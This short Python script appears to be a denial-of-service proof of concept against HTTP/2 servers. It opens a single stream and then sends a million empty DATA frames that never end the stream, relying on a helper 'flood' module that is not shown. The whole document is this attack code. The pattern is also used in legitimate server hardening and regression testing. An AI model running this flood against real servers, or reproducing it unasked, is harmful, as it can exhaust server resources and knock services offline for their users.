"""DATA that carries nothing, of a stream that never ends."""

import flood
from http2_connection import DATA, END_HEADERS, HEADERS, frame

if __name__ == "__main__":
    flood.main([frame(HEADERS, END_HEADERS, 1, flood.header_block())] + [frame(DATA, 0, 1) * 1_000] * 1_000)
